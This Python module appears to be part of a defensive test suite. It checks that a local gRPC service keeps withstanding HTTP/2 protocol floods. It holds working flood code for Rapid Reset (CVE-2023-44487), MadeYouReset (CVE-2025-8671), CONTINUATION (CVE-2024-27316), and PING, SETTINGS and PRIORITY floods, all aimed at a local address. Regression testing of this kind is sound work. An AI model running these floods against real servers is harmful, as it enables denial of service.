"""Floods of the protocol itself. They failed before this campaign was written, and must go on failing."""

import struct

from floods.flood import Crowd, flood, repeat
from wire import (
    ACK, CHALLENGE, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, call_headers,
    frame, settings,
)  # fmt: skip

BLOCK = call_headers("/wardein.v1.DeviceService/GetChallenge")


def crowd(ground):
    return Crowd(ground, 16, ["127.0.0.2"])


@flood("rapid-reset", "calls that are cancelled in the same breath (CVE-2023-44487)")
def rapid_reset(ground):
    def write(peer):
        parts, first = [], peer.next_stream
        peer.next_stream += 200
        for stream in range(first, peer.next_stream, 2):
            parts += frame(HEADERS, END_HEADERS, stream, BLOCK), frame(DATA, END_STREAM, stream, CHALLENGE)
            parts.append(frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
        peer.send(b"".join(parts))

    return repeat(ground, crowd(ground), write)


@flood("made-you-reset", "a WINDOW_UPDATE of 0, so that the authority resets each stream (CVE-2025-8671)")
def made_you_reset(ground):
    def write(peer):
        parts, first = [], peer.next_stream
        peer.next_stream += 200
        for stream in range(first, peer.next_stream, 2):
            parts += frame(HEADERS, END_HEADERS, stream, BLOCK), frame(WINDOW_UPDATE, 0, stream, bytes(4))
        peer.send(b"".join(parts))

    return repeat(ground, crowd(ground), write)


@flood("continuation", "headers that never end (CVE-2024-27316)")
def continuation(ground):
    def write(peer):
        if peer.next_stream == 1:
            peer.next_stream += 2
            peer.send(frame(HEADERS, 0, 1, BLOCK))
        peer.send(frame(CONTINUATION, 0, 1, BLOCK) * 100)

    return repeat(ground, crowd(ground), write)


@flood("ping", "PING without end, whose answers are read")
def ping(ground):
    return repeat(ground, crowd(ground), lambda peer: peer.send(frame(PING, 0, 0, bytes(8)) * 500))


@flood("settings", "SETTINGS without end")
def settings_flood(ground):
    return repeat(ground, crowd(ground), lambda peer: peer.send(settings((3, 100)) * 500))


@flood("priority", "PRIORITY and acknowledged PING frames, of which nobody asked for any")
def priority(ground):
    both = frame(PRIORITY, 0, 1, bytes(5)) + frame(PING, ACK, 0, bytes(8))
    return repeat(ground, crowd(ground), lambda peer: peer.send(both * 250))
